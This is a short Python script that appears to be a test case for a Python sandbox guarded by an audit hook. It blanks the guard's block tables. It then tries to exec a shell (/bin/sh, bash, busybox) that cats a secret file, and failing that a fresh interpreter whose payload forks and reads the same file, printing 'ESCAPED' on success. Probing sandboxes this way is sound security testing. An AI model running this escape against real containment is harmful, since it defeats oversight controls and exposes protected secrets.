"""process: replace the interpreter with exec* (a shell, then a fresh interpreter without guards).

The new program is whatever exec loads: a shell reads the trace database; a fresh python
(no audit hook) forks and reads it. Exec alone starts no process, so the payload must prove
it got further than the original program could.
"""

import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

SECRET_FILE = "__SECRET_FILE__"
PAYLOAD = f"""
import os
wins = []
try:
    pid = os.fork()
    if pid == 0:
        os._exit(7)
    if os.waitpid(pid, 0)[1] >> 8 == 7:
        wins.append("forked after exec")
except OSError as exc:
    print("fork after exec:", exc)
try:
    wins.append("read " + repr(open({SECRET_FILE!r}, "rb").read()[-200:]))
except OSError as exc:
    print("read after exec:", exc)
if wins:
    print("ESCAPED: exec'd a fresh interpreter that " + "; ".join(wins))
"""
sys.stdout.flush()
for shell in ("/bin/sh", "/bin/bash", "/usr/bin/busybox"):
    try:
        os.execv(shell, [shell, "-c", f"echo 'ESCAPED: exec {shell}'; cat {SECRET_FILE}"])
    except OSError as exc:
        print(f"execv {shell}: {exc.strerror}")
for label, call in (
    ("execv", lambda: os.execv(sys.executable, [sys.executable, "-c", PAYLOAD])),
    ("execve", lambda: os.execve(sys.executable, [sys.executable, "-c", PAYLOAD], {})),
    ("execvp", lambda: os.execvp("python3", ["python3", "-c", PAYLOAD])),
):
    sys.stdout.flush()
    try:
        call()
    except OSError as exc:
        print(f"{label}: {exc.strerror}")
